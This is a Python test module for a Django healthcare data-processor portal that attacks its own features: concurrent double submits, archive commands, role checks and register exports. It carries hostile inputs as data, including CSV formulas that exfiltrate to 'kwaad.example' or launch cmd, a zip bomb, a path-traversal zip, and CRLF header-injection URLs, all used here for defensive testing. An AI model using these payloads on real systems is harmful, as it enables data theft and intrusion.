"""More attacks on issue 12's parts: parallel double submits against a live server, formulas in
the CSV files, what the e-mails say, the exit's commands fed bad directories and accounts, role
escalation on announced changes and exits, and odd formats of the register of processing. Each
test performs one attack and asserts what the attacker gets: one effect, a clear refusal, no
change."""

import concurrent.futures
import csv
import dataclasses
import datetime
import io
import json
import uuid
import zipfile
from pathlib import Path

import pytest
import pyzipper
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from demo import platform as demo
from requests_app.models import (
    AuditOutcome,
    AuditRecord,
    ChangeAnswer,
    ExitState,
    GeneralTask,
    HourlyRate,
    Incident,
    LegalOrder,
    Membership,
    Practice,
    PracticeExit,
    Request,
    SubProcessor,
    SubProcessorApproval,
    SubProcessorChange,
    TimeEntry,
)
from requests_app.roles import Role
from tests.factories import a_register, make_user, submit
from tests.live_http import Visitor
from workflows.models import Notification, Purpose
from workflows.practice_exit import archive, exits

pytestmark = pytest.mark.django_db

ADMIN = "admin@processor.example"


@pytest.fixture
def admin(db):
    return make_user(ADMIN, Role.PROCESSOR_ADMIN)


@pytest.fixture
def fg(practice):
    return make_user("fg@practice.example", Role.DPO, practice)


@pytest.fixture
def other_fg(other_practice):
    return make_user("fg@elders.example", Role.DPO, other_practice)


def denied(user, event) -> bool:
    return AuditRecord.objects.filter(
        user=user, event_type=event, outcome=AuditOutcome.DENIED
    ).exists()


# --- The exit's commands -----------------------------------------------------------------------
@pytest.fixture
def leaving(platform_db, package_dir, settings, tmp_path, practice, other_practice, patient):
    settings.EXIT_ARCHIVE_DIR = tmp_path / "exits"
    demo.add_patient(platform_db, practice_agb=practice.agb_code, email=patient.email, messages=3)
    submit(practice, patient)
    submit(
        other_practice,
        patient.__class__(
            name="Piet", birth_date=datetime.date(1970, 1, 1), email="piet@example.com", phone=""
        ),
    )
    return practice


START = {
    "reason": "written_request",
    "reference": "Brief 2026-11",
    "dated": datetime.date(2026, 11, 1),
}


def export(practice, out, by=ADMIN, **extra):
    call_command(
        "export_practice", practice.agb_code, out=out, by=by, stdout=io.StringIO(), **extra
    )


def destroy(practice, directory, by=ADMIN):
    call_command(
        "destroy_practice", practice.agb_code, archive=directory, by=by, stdout=io.StringIO()
    )


def state() -> dict:
    """What a refused command must leave as it was."""
    return {
        "requests": Request.objects.count(),
        "active": list(Practice.objects.order_by("pk").values_list("active", flat=True)),
        "exits": list(PracticeExit.objects.order_by("pk").values_list("state", "manifest_digest")),
        "memberships": Membership.objects.count(),
        "steps": sum(e.steps.count() for e in PracticeExit.objects.all()),
    }


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")}


@pytest.fixture
def exported(leaving, admin, tmp_path):
    """The practice's exit started and exported into tmp_path/good."""
    export(leaving, tmp_path / "good", **START)
    return tmp_path / "good"


def test_an_export_into_a_file_is_refused_and_starts_no_exit(leaving, admin, tmp_path):
    target = tmp_path / "a-file"
    target.write_text("niet leeg")
    before = state()
    with pytest.raises(CommandError, match="not an empty directory"):
        export(leaving, target, **START)
    assert state() == before and not PracticeExit.objects.exists()
    assert Practice.objects.get(pk=leaving.pk).active
    assert target.read_text() == "niet leeg"


def test_an_export_into_a_non_empty_directory_is_refused_and_starts_no_exit(
    leaving, admin, tmp_path
):
    target = tmp_path / "full"
    target.mkdir()
    (target / "oud.txt").write_text("x")
    before = state()
    with pytest.raises(CommandError, match="not an empty directory"):
        export(leaving, target, **START)
    assert state() == before and files_under(target) == {target / "oud.txt"}


def test_an_export_through_a_link_to_a_directory_is_refused_and_writes_nothing_there(
    leaving, admin, tmp_path
):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "link"
    link.symlink_to(elsewhere, target_is_directory=True)
    before = state()
    with pytest.raises(CommandError, match="link"):
        export(leaving, link, **START)
    assert state() == before
    assert files_under(elsewhere) == set()


@pytest.mark.parametrize("who", ["support", "deactivated", "unknown"])
def test_an_export_by_anyone_but_an_active_processor_administrator_is_refused(
    leaving, admin, support, tmp_path, who
):
    by = {"support": support.email, "deactivated": ADMIN, "unknown": "niemand@example.com"}[who]
    if who == "deactivated":
        admin.is_active = False
        admin.save(update_fields=["is_active"])
    before = state()
    with pytest.raises(CommandError, match="not an active processor administrator"):
        export(leaving, tmp_path / "out", by=by, **START)
    assert state() == before and not (tmp_path / "out").exists()


def _refused_destruction(practice, directory, match, by=ADMIN):
    before = state()
    outside = files_under(directory.parent.parent)
    with pytest.raises(CommandError, match=match):
        destroy(practice, directory, by=by)
    assert state() == before
    assert files_under(directory.parent.parent) == outside
    record = PracticeExit.objects.get(practice=practice)
    assert record.state == ExitState.EXPORTED


def test_another_practices_archive_does_not_destroy_this_practice(
    exported, leaving, other_practice, admin, tmp_path
):
    export(other_practice, tmp_path / "theirs", **START)
    _refused_destruction(leaving, tmp_path / "theirs", "belongs to practice 07654321")
    assert Request.objects.filter(practice=other_practice).exists()


def test_a_link_to_the_good_archive_is_refused(exported, leaving, admin, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(exported, target_is_directory=True)
    _refused_destruction(leaving, link, "link")
    assert len(list(exported.iterdir())) == 3


def test_an_archive_directory_with_an_extra_file_is_refused(exported, leaving, admin):
    (exported / "wachtwoord.txt").write_text("geheim")
    _refused_destruction(leaving, exported, "wachtwoord.txt")


@pytest.mark.parametrize("missing", ["zip", "sha256", "manifest"])
def test_an_archive_directory_missing_a_file_is_refused(exported, leaving, admin, missing):
    name = {
        "zip": next(exported.glob("*.zip")).name,
        "sha256": next(exported.glob("*.sha256")).name,
        "manifest": "manifest.json",
    }[missing]
    (exported / name).unlink()
    _refused_destruction(leaving, exported, "missing|not verify|not an exit archive")


def test_a_manifest_edited_with_its_checksum_recomputed_is_refused(exported, leaving, admin):
    manifest_path = exported / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["state"] = {}
    manifest_path.write_text(json.dumps(manifest))
    _refused_destruction(leaving, exported, "not the one recorded")


def _replace_zip(directory: Path, make) -> None:
    import hashlib

    name = next(directory.glob("*.zip")).name
    make(directory / name)
    digest = hashlib.sha256((directory / name).read_bytes()).hexdigest()
    (directory / f"{name}.sha256").write_text(f"{digest}  {name}\n")


def test_a_zip_bomb_in_place_of_the_archive_is_refused_unopened(exported, leaving, admin):
    def bomb(path):
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
            z.writestr("manifest.json", b"0" * 50_000_000)

    _replace_zip(exported, bomb)
    _refused_destruction(leaving, exported, "checksum does not verify")


def test_a_zip_with_a_path_traversal_name_is_refused_and_writes_nothing_outside(
    exported, leaving, admin, tmp_path
):
    def traversal(path):
        with pyzipper.ZipFile(path, "w") as z:
            z.writestr("../../buiten.txt", b"x")
            z.writestr("manifest.json", b"{}")

    _replace_zip(exported, traversal)
    _refused_destruction(leaving, exported, "checksum does not verify")
    assert not (tmp_path.parent / "buiten.txt").exists()


@pytest.mark.parametrize("who", ["support", "deactivated"])
def test_a_destruction_by_anyone_but_an_active_administrator_is_refused(
    exported, leaving, admin, support, who
):
    by = support.email if who == "support" else ADMIN
    if who == "deactivated":
        admin.is_active = False
        admin.save(update_fields=["is_active"])
    _refused_destruction(leaving, exported, "not an active processor administrator", by=by)


def test_the_good_archive_still_destroys(exported, leaving, admin):
    destroy(leaving, exported)
    assert PracticeExit.objects.get(practice=leaving).state == ExitState.CERTIFIED
    assert not Request.objects.filter(practice=leaving).exists()


# --- Parallel double submits against a live server ---------------------------------------------
def seeded_rows() -> SubProcessor:
    """What the migrations seed and a committing test's flush removes: a rate and Twilio."""
    a_register()
    HourlyRate.objects.get_or_create(
        function="Security consultant",
        valid_from=datetime.date(2000, 1, 1),
        defaults={"rate": 120},
    )
    twilio, _new = SubProcessor.objects.get_or_create(
        name="Twilio", defaults={"service": "sms", "location": "EU", "categories": ["phone"]}
    )
    return twilio


def visitors(live_server, client, user, path, n=6) -> list:
    client.force_login(user)
    client.get(path)
    cookies = {name: client.cookies[name].value for name in ("sessionid", "csrftoken")}
    return [Visitor(live_server.url, cookies) for _ in range(n)]


def all_at_once(clicks, path, data) -> list[int]:
    with concurrent.futures.ThreadPoolExecutor(max_workers=len(clicks)) as pool:
        answers = list(pool.map(lambda v: v.post(path, data), clicks))
    return [a.status_code for a in answers]


@pytest.mark.django_db(transaction=True)
def test_parallel_posts_of_one_new_incident_form_record_one_and_mail_once(
    live_server, client, support, practice, providers
):
    form = {
        "category": "breach",
        "nature": "Back-up open op internet",
        "practices": [practice.pk],
        "discovered_at": "2026-03-02T09:30",
        "key": str(uuid.uuid4()),
    }
    clicks = visitors(live_server, client, support, "/staff/incidents/new/")
    codes = all_at_once(clicks, "/staff/incidents/new/", form)
    assert codes == [302] * len(clicks)
    assert Incident.objects.count() == 1
    sent = Notification.objects.filter(purpose=Purpose.INCIDENT)
    assert sorted(sent.values_list("recipient", flat=True)) == sorted(practice.privacy_emails())


@pytest.fixture
def announced(support, practice):
    from workflows.register import changes

    return changes.announce(
        actor=support,
        kind="new",
        subprocessor=seeded_rows(),
        description_nl="Twilio verstuurt de sms-codes.",
        description="Twilio sends the SMS codes.",
        effective_on=timezone.localdate() + datetime.timedelta(days=31),
    )


@pytest.mark.django_db(transaction=True)
def test_parallel_consents_to_one_change_record_one_approval(
    live_server, client, fg, practice, announced, providers
):
    answer = ChangeAnswer.objects.get(change=announced, practice=practice)
    path = reverse("staff:subprocessor_change_answer_submit", args=[answer.pk])
    clicks = visitors(live_server, client, fg, reverse("staff:subprocessor_changes"))
    codes = all_at_once(clicks, path, {"decision": "consent"})
    assert codes == [302] * len(clicks)
    assert ChangeAnswer.objects.get(pk=answer.pk).state == "consented"
    assert (
        SubProcessorApproval.objects.filter(
            practice=practice, subprocessor=announced.subprocessor
        ).count()
        == 1
    )
    assert announced.events.filter(action="answer_consent").count() == 1
    assert announced.events.filter(action="approval_recorded").count() == 1


@pytest.mark.django_db(transaction=True)
def test_parallel_objections_to_one_change_record_one(
    live_server, client, fg, practice, announced, providers
):
    answer = ChangeAnswer.objects.get(change=announced, practice=practice)
    path = reverse("staff:subprocessor_change_answer_submit", args=[answer.pk])
    clicks = visitors(live_server, client, fg, reverse("staff:subprocessor_changes"))
    codes = all_at_once(clicks, path, {"decision": "object", "reason": "Liever niet"})
    assert codes == [302] * len(clicks)
    assert ChangeAnswer.objects.get(pk=answer.pk).state == "objected"
    assert announced.events.filter(action="answer_object").count() == 1


@pytest.fixture
def question(practice, handler, support):
    from workflows.assistance import general

    seeded_rows()
    task = general.ask(practice, actor=handler, kind="audit", subject="Audit", question="Wanneer?")
    return general.start(task, actor=support)


@pytest.mark.django_db(transaction=True)
def test_parallel_objections_to_one_instruction_object_once_and_mail_once(
    live_server, client, support, practice, question, providers
):
    path = f"/staff/general/{question.pk}/instruction/object/"
    data = {"objection-version": question.version, "objection-reason": "In strijd met art. 9"}
    clicks = visitors(live_server, client, support, f"/staff/general/{question.pk}/")
    codes = all_at_once(clicks, path, data)
    assert codes == [302] * len(clicks)
    assert question.events.filter(action="object").count() == 1
    objected = [
        r
        for r in Notification.objects.filter(purpose=Purpose.ASSISTANCE)
        if question.number in r.body
    ]
    recipients = [r.recipient for r in objected]
    assert len(recipients) == len(set(recipients)) >= 1


@pytest.mark.django_db(transaction=True)
def test_parallel_posts_of_one_time_form_charge_once(
    live_server, client, support, practice, question, providers
):
    path = f"/staff/general/{question.pk}/time/"
    clicks = visitors(live_server, client, support, f"/staff/general/{question.pk}/")
    data = {
        "time-day": timezone.localdate().isoformat(),
        "time-minutes": "45",
        "time-function": "Security consultant",
        "time-basis": "chargeable",
        "time-note": "Logbestanden nagelopen",
        "time-key": str(uuid.uuid4()),
    }
    codes = all_at_once(clicks, path, data)
    assert codes == [302] * len(clicks)
    assert TimeEntry.objects.count() == 1
    assert question.events.filter(action="time").count() == 1
    # A new form (a new key) is new work: recorded too.
    client.post(path, data | {"time-key": str(uuid.uuid4())})
    assert TimeEntry.objects.count() == 2


def test_a_time_form_without_its_key_is_a_400(client, support, question):
    client.force_login(support)
    data = {
        "time-day": timezone.localdate().isoformat(),
        "time-minutes": "45",
        "time-function": "Security consultant",
        "time-basis": "chargeable",
        "time-note": "Logbestanden nagelopen",
    }
    for key in ({}, {"time-key": "geen-sleutel"}):
        response = client.post(f"/staff/general/{question.pk}/time/", data | key)
        assert response.status_code == 400
    assert not TimeEntry.objects.exists()
    page = client.get(f"/staff/general/{question.pk}/").content.decode()
    assert 'name="time-key"' in page


@pytest.mark.django_db(transaction=True)
def test_parallel_posts_of_one_announcement_announce_once_and_mail_once(
    live_server, client, support, practice, other_practice, providers
):
    form = {
        "kind": "new",
        "subprocessor": seeded_rows().pk,
        "description_nl": "Twilio verstuurt de sms-codes.",
        "description": "Twilio sends the SMS codes.",
        "effective_on": (timezone.localdate() + datetime.timedelta(days=31)).isoformat(),
        "inside_eea": "on",
        "key": str(uuid.uuid4()),
    }
    path = reverse("staff:subprocessor_change_new")
    clicks = visitors(live_server, client, support, path)
    codes = all_at_once(clicks, path, form)
    assert codes == [302] * len(clicks)
    assert SubProcessorChange.objects.count() == 1
    assert ChangeAnswer.objects.count() == 2
    sent = Notification.objects.filter(purpose=Purpose.SUBPROCESSOR_CHANGE)
    expected = practice.privacy_emails() + other_practice.privacy_emails()
    assert sorted(sent.values_list("recipient", flat=True)) == sorted(expected)
    assert 'name="key"' in client.get(path).content.decode()


# --- Formulas in the CSV files -----------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://kwaad.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
]


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) and not cell.startswith("'")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_time_note_is_text_in_the_statement(
    client, support, handler, practice, question, formula
):
    from workflows.assistance import charges

    charges.record_time(
        question,
        actor=support,
        day=timezone.localdate(),
        minutes=30,
        function="Security consultant",
        basis="chargeable",
        note=formula,
    )
    client.force_login(handler)
    month = timezone.localdate().strftime("%Y-%m")
    response = client.get("/staff/charges/statement.csv", {"practice": practice.pk, "month": month})
    assert response.status_code == 200
    written = cells(response.content.decode())
    assert [c for c in written if formula.strip() in c]  # the note is there, as text
    assert not [c for c in written if runs_as_formula(c)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_the_register_is_text_in_its_csv(client, fg, practice, formula):
    from requests_app.models import ProcessingActivity

    a_register()
    activity = ProcessingActivity.objects.filter(active=True).first()
    activity.nature_nl = activity.nature = formula
    activity.name_nl = activity.name = formula
    activity.save()
    client.force_login(fg)
    response = client.get(reverse("staff:processing_register_file", args=[practice.pk, "csv"]))
    assert response.status_code == 200
    assert not [c for c in cells(response.content.decode()) if runs_as_formula(c)]
    document = client.get(reverse("staff:processing_register_file", args=[practice.pk, "json"]))
    natures = [a["nature"]["nl"] for a in json.loads(document.content)["processing"]]
    assert formula in natures  # the JSON keeps the exact text


def test_a_patients_formula_name_is_text_in_the_exit_archives_csv_and_exact_in_its_json(
    platform_db, package_dir, settings, tmp_path, practice, patient
):
    settings.EXIT_ARCHIVE_DIR = tmp_path / "exits"
    name = '=HYPERLINK("http://kwaad.example/?"&A1,"Jan")'
    submit(practice, dataclasses.replace(patient, name=name))
    submit(practice, patient, description="@SUM(1+1) -2+3")
    result = archive.write_archive(practice, tmp_path / "out", exit_number="EX-1")
    with pyzipper.AESZipFile(result.archive) as opened:
        opened.setpassword(result.passphrase.encode())
        names = opened.namelist()
        csv_cells = [
            cell
            for member in names
            if member.startswith("csv/")
            for cell in cells(opened.read(member).decode("utf-8"))
        ]
        json_text = "".join(
            opened.read(member).decode("utf-8") for member in names if member.startswith("json/")
        )
    assert "'" + name in csv_cells
    assert not [c for c in csv_cells if runs_as_formula(c)]
    assert json.dumps(name, ensure_ascii=False) in json_text


# --- The register of processing: another practice's, in every format ---------------------------
@pytest.mark.parametrize(
    "path",
    [
        "register/{pk}/",
        "register/{pk}/register.json",
        "register/{pk}/register.csv",
        "register/{pk}/register.xml",
        "register/{pk}/register.JSON",
        "register/{pk}/register.json.csv",
    ],
)
def test_another_practices_register_is_a_404_in_every_format_and_the_look_is_recorded(
    client, other_fg, practice, path
):
    client.force_login(other_fg)
    response = client.get("/staff/" + path.format(pk=practice.pk))
    assert response.status_code == 404
    assert denied(other_fg, "register.export")
    assert not AuditRecord.objects.filter(
        event_type="register.export", outcome=AuditOutcome.SUCCESS
    ).exists()


@pytest.mark.parametrize(
    "tail",
    [
        "register.json%00",
        "register.",
        "register.%2e%2e%2f",
        "register.../",
        "register.json/../csv",
        "register.%FF",
        "register.json%0d%0aX-Kwaad:1",
        "register.\u0661",
    ],
)
def test_odd_register_formats_are_a_4xx_never_a_500(client, other_fg, fg, practice, tail):
    for who in (fg, other_fg):
        client.force_login(who)
        response = client.get(f"/staff/register/{practice.pk}/{tail}")
        assert response.status_code in (400, 404), (who, response.status_code)
        assert "X-Kwaad" not in response
    assert not AuditRecord.objects.filter(
        event_type="register.export", outcome=AuditOutcome.SUCCESS
    ).exists()


@pytest.mark.parametrize("pk", ["0", "99999999999999999999", "-1", "1e3"])
def test_odd_register_ids_are_a_404(client, fg, pk):
    client.force_login(fg)
    for tail in ("", "register.json", "register.csv"):
        assert client.get(f"/staff/register/{pk}/{tail}").status_code == 404


# --- Role escalation on announced changes and exits --------------------------------------------
@pytest.fixture
def manager(practice):
    return make_user("beheer@practice.example", Role.PRACTICE_ADMIN, practice)


def test_a_practices_fg_and_administrator_cannot_announce_a_change(client, fg, manager, practice):
    twilio = seeded_rows()
    form = {
        "kind": "new",
        "subprocessor": twilio.pk,
        "description_nl": "Twilio verstuurt de sms-codes.",
        "description": "Twilio sends the SMS codes.",
        "effective_on": (timezone.localdate() + datetime.timedelta(days=31)).isoformat(),
        "inside_eea": "on",
        "key": str(uuid.uuid4()),
    }
    for who in (fg, manager):
        client.force_login(who)
        assert client.get(reverse("staff:subprocessor_change_new")).status_code == 403
        assert client.post(reverse("staff:subprocessor_change_new"), form).status_code == 403
    assert not SubProcessorChange.objects.exists() and not Notification.objects.exists()


def test_a_practices_fg_and_administrator_cannot_withdraw_a_change(
    client, fg, manager, handler, announced
):
    before = Notification.objects.count()
    for who in (fg, manager, handler):
        client.force_login(who)
        response = client.post(reverse("staff:subprocessor_change_withdraw", args=[announced.pk]))
        assert response.status_code in (302, 403, 404)
    assert SubProcessorChange.objects.get(pk=announced.pk).state == "announced"
    assert not announced.events.filter(action="withdraw").exists()
    assert Notification.objects.count() == before


def test_a_handler_and_support_cannot_answer_a_practices_change(
    client, handler, support, practice, announced
):
    answer = ChangeAnswer.objects.get(change=announced, practice=practice)
    url = reverse("staff:subprocessor_change_answer_submit", args=[answer.pk])
    for who in (handler, support):
        client.force_login(who)
        for decision in ({"decision": "consent"}, {"decision": "object", "reason": "Nee"}):
            assert client.post(url, decision).status_code in (302, 403, 404)
    assert ChangeAnswer.objects.get(pk=answer.pk).state == "pending"
    assert not SubProcessorApproval.objects.filter(subprocessor=announced.subprocessor).exists()


def test_the_fg_of_another_practice_cannot_answer_this_practices_change(
    client, other_fg, practice, announced
):
    answer = ChangeAnswer.objects.get(change=announced, practice=practice)
    client.force_login(other_fg)
    url = reverse("staff:subprocessor_change_answer_submit", args=[answer.pk])
    assert client.post(url, {"decision": "consent"}).status_code == 404
    assert denied(other_fg, "subprocessor_change.answer.view")
    assert ChangeAnswer.objects.get(pk=answer.pk).state == "pending"


def test_support_a_practice_admin_and_the_fg_cannot_start_export_or_destroy(
    client, leaving, admin, support, fg, manager
):
    start = {"reason": "agreement_ended", "reference": "Opzegging 12", "dated": "2026-10-01"}
    for who in (support, fg, manager):
        client.force_login(who)
        url = reverse("staff:exit_start", args=[leaving.agb_code])
        assert client.post(url, start).status_code in (403, 404)
    assert not PracticeExit.objects.exists()
    record = exits.start_exit(
        leaving,
        actor=admin,
        reason="agreement_ended",
        reference="Opzegging 12",
        dated=datetime.date(2026, 10, 1),
    )
    for who in (support, fg, manager):
        client.force_login(who)
        assert client.post(reverse("staff:exit_export", args=[record.pk])).status_code in (403, 404)
        response = client.post(
            reverse("staff:exit_destroy", args=[record.pk]), {"agb": leaving.agb_code}
        )
        assert response.status_code in (403, 404)
        assert client.get(reverse("staff:exit_download", args=[record.pk])).status_code in (
            403,
            404,
        )
    record = PracticeExit.objects.get(pk=record.pk)
    assert record.state == ExitState.STARTED and not record.manifest_digest
    assert Request.objects.filter(practice=leaving).exists()


@pytest.fixture
def certified(client, leaving, admin, handler, fg):
    """Practice staff signed in before the exit; the exit then carried out in the screens."""
    from django.test import Client

    before = Client()
    before.force_login(handler)
    assert before.get("/staff/incidents/").status_code in (200, 403)
    assert before.get("/staff/general/").status_code == 200
    client.force_login(admin)
    record = exits.start_exit(
        leaving,
        actor=admin,
        reason="agreement_ended",
        reference="Opzegging 12",
        dated=datetime.date(2026, 10, 1),
    )
    client.post(reverse("staff:exit_export", args=[record.pk]))
    client.post(reverse("staff:exit_destroy", args=[record.pk]), {"agb": leaving.agb_code})
    record = PracticeExit.objects.get(pk=record.pk)
    assert record.state == ExitState.CERTIFIED
    return record, before


def test_the_fg_of_another_practice_reads_neither_the_certificate_nor_its_json(
    client, certified, other_fg
):
    record, _session = certified
    client.force_login(other_fg)
    for name in ("staff:exit_certificate", "staff:exit_certificate_json"):
        response = client.get(reverse(name, args=[record.pk]))
        assert response.status_code == 404
        assert record.certificate_digest not in response.content.decode()
    denials = AuditRecord.objects.filter(
        event_type="practice_exit.certificate", user=other_fg, outcome=AuditOutcome.DENIED
    )
    assert denials.count() == 2
    assert not AuditRecord.objects.filter(
        event_type="practice_exit.certificate", user=other_fg, outcome=AuditOutcome.SUCCESS
    ).exists()


def test_a_session_from_before_the_account_step_reaches_nothing(certified, handler):
    _record, client = certified
    for path in ("/staff/", "/staff/incidents/", "/staff/charges/", "/staff/general/"):
        response = client.get(path)
        assert response.status_code in (302, 403, 404), path
        if response.status_code == 302:
            assert "login" in response["Location"] or "signin" in response["Location"]
    assert not handler.__class__.objects.get(pk=handler.pk).is_active


# --- What the e-mails say ----------------------------------------------------------------------
SECRETS = {
    "name": "Hendrika Geheimnaam",
    "email": "hendrika.geheim@example.com",
    "bsn": "111222333",
    "health": "suikerziekte-en-hiv-dossier",
    "nature": "Aard-geheim-lek",
    "personal_data": "Gegevens-geheim-veld",
    "consequences": "Gevolgen-geheim",
    "measures": "Maatregelen-geheim",
    "update": "Update-tekst-geheim",
    "reason": "Bezwaar-reden-geheim",
    "processing": "Vordering-inhoud-geheim",
}
STAFF_PURPOSES = [
    Purpose.INCIDENT,
    Purpose.ESCALATION,
    Purpose.ASSISTANCE,
    Purpose.LEGAL_ORDER,
    Purpose.SUBPROCESSOR_CHANGE,
    Purpose.PRACTICE_EXIT,
]


def test_staff_e_mails_carry_no_report_text_no_patient_data_and_absolute_links(
    settings, client, certified_after_work, practice, support
):
    import re

    rows = list(Notification.objects.filter(purpose__in=STAFF_PURPOSES))
    templates = {r.purpose for r in rows}
    assert templates == set(STAFF_PURPOSES), templates
    for row in rows:
        text = row.subject + "\n" + row.body
        for what, secret in SECRETS.items():
            assert secret.lower() not in text.lower(), (row.purpose, what, text)
        links = re.findall(r"https?://\S+|(?<!\S)/staff/\S*", text)
        for link in links:
            assert link.startswith(settings.PORTAL_BASE_URL + "/"), (row.purpose, link)
        assert links or row.purpose == Purpose.PRACTICE_EXIT, (row.purpose, text)


@pytest.fixture
def certified_after_work(
    settings, client, leaving, admin, support, handler, fg, practice, patient, other_practice
):
    """Every kind of staff e-mail, each fed text that must not reach an inbox."""
    from workflows.assistance import general, instructions, legal_orders
    from workflows.casework import incident_escalations, incidents
    from workflows.register import changes

    settings.PORTAL_BASE_URL = "https://portaal.example"
    seeded_rows()
    secret_patient = dataclasses.replace(
        patient, name=SECRETS["name"], email=SECRETS["email"], bsn=SECRETS["bsn"]
    )
    item = submit(
        practice,
        secret_patient,
        kind="complaint",
        description=SECRETS["health"],
        about_processor=True,
    )
    incident = Incident.objects.get(request=item)
    report = {name: SECRETS[name] for name in Incident.REPORT_FIELDS}
    incidents.update(incident, actor=support, version=None, text=SECRETS["update"], changes=report)
    incidents.record(
        actor=support,
        category="breach",
        practices=[practice, other_practice],
        fields={"nature": SECRETS["nature"]},
        key=uuid.uuid4(),
    )
    incident_escalations.escalate(timezone.now() + datetime.timedelta(days=400))
    (order,) = legal_orders.record(
        [practice],
        actor=support,
        authority="Rechtbank",
        legal_basis="art. 126nd Sv",
        order_reference="Bevel 1",
        processing=SECRETS["processing"],
        received_on=timezone.localdate(),
        planned_on=timezone.localdate(),
    )
    legal_orders.notify(order, actor=support)
    task = general.start(
        general.ask(practice, actor=handler, kind="audit", subject="Audit", question="Wanneer?"),
        actor=support,
    )
    task = instructions.object_to(task, actor=support, reason=SECRETS["reason"])
    instructions.confirm(task, actor=handler, note=SECRETS["reason"])
    change = changes.announce(
        actor=support,
        kind="new",
        subprocessor=SubProcessor.objects.get(name="Twilio"),
        description_nl="Twilio verstuurt de sms-codes.",
        description="Twilio sends the SMS codes.",
        effective_on=timezone.localdate() + datetime.timedelta(days=31),
    )
    changes.object_to(
        ChangeAnswer.objects.get(change=change, practice=practice),
        actor=fg,
        reason=SECRETS["reason"],
    )
    changes.withdraw(change, actor=support)
    # The exit: the practice's records go, the e-mails about it stay in the outbox.
    kept = list(Notification.objects.filter(purpose__in=STAFF_PURPOSES).values())
    record = exits.start_exit(
        leaving,
        actor=admin,
        reason="agreement_ended",
        reference="Opzegging",
        dated=timezone.localdate(),
    )
    client.force_login(admin)
    client.post(reverse("staff:exit_export", args=[record.pk]))
    client.post(reverse("staff:exit_destroy", args=[record.pk]), {"agb": leaving.agb_code})
    assert PracticeExit.objects.get(pk=record.pk).state == ExitState.CERTIFIED
    for row in kept:
        if not Notification.objects.filter(pk=row["id"]).exists():
            Notification.objects.create(**row)
    return record


# --- Parallel double submits of a legal order and a question --------------------------------------
def order_form(*practices) -> dict:
    return {
        "practices": [p.pk for p in practices],
        "authority": "Officier van justitie",
        "legal_basis": "art. 126nd Sv",
        "order_reference": "OvJ-2026-7",
        "processing": "Verstrekken van accountgegevens",
        "received_on": "2026-03-02",
        "planned_on": "2026-03-09",
        "key": str(uuid.uuid4()),
    }


@pytest.mark.django_db(transaction=True)
def test_parallel_posts_of_one_legal_order_record_one_per_practice_and_notify_once(
    live_server, client, support, practice, other_practice, providers
):
    path = reverse("staff:order_new")
    form = order_form(practice, other_practice)
    clicks = visitors(live_server, client, support, path)
    with concurrent.futures.ThreadPoolExecutor(max_workers=len(clicks)) as pool:
        answers = list(pool.map(lambda v: v.post(path, form), clicks))
    assert [a.status_code for a in answers] == [302] * len(clicks)
    orders = list(LegalOrder.objects.order_by("pk"))
    assert sorted(o.practice_id for o in orders) == sorted([practice.pk, other_practice.pk])
    assert all(o.events.filter(action="recorded").count() == 1 for o in orders)
    # Every click lands on the same order; each notice goes out once, even clicked at once.
    landed = {a.headers["Location"] for a in answers}
    assert landed == {reverse("staff:order", args=[orders[0].pk])}
    for order in orders:
        act = reverse("staff:order_act", args=[order.pk, "notify"])
        assert all_at_once(clicks, act, {"version": 0}) == [302] * len(clicks)
    sent = Notification.objects.filter(purpose=Purpose.LEGAL_ORDER)
    expected = practice.privacy_emails() + other_practice.privacy_emails()
    assert sorted(sent.values_list("recipient", flat=True)) == sorted(expected)
    # A new form (a new key) is a new order.
    client.post(path, form | {"key": str(uuid.uuid4())})
    assert LegalOrder.objects.count() == 4
    assert 'name="key"' in client.get(path).content.decode()


@pytest.mark.django_db(transaction=True)
def test_parallel_posts_of_one_question_file_one_and_mail_support_once(
    live_server, client, handler, support, practice, providers
):
    path = reverse("staff:general_new")
    form = {
        "practice": practice.pk,
        "kind": "dpia",
        "subject": "DPIA beeldbellen",
        "question": "Waar staan de beelden?",
        "key": str(uuid.uuid4()),
    }
    clicks = visitors(live_server, client, handler, path)
    codes = all_at_once(clicks, path, form)
    assert codes == [302] * len(clicks)
    task = GeneralTask.objects.get()
    assert task.events.filter(action="requested").count() == 1
    sent = Notification.objects.filter(purpose=Purpose.ASSISTANCE)
    assert list(sent.values_list("recipient", flat=True)) == [support.email]
    # A new form (a new key) is a new question.
    client.post(path, form | {"key": str(uuid.uuid4())})
    assert GeneralTask.objects.count() == 2
    assert 'name="key"' in client.get(path).content.decode()


def test_a_legal_order_or_question_without_its_key_is_a_400(
    client, support, handler, practice, providers
):
    keyless = order_form(practice)
    del keyless["key"]
    question = {"practice": practice.pk, "kind": "dpia", "subject": "DPIA", "question": "Waar?"}
    for user, path, form in (
        (support, reverse("staff:order_new"), keyless),
        (handler, reverse("staff:general_new"), question),
    ):
        client.force_login(user)
        for key in ({}, {"key": "geen-sleutel"}, {"key": ""}):
            assert client.post(path, form | key).status_code == 400
    assert not LegalOrder.objects.exists() and not GeneralTask.objects.exists()
    assert not Notification.objects.exists()
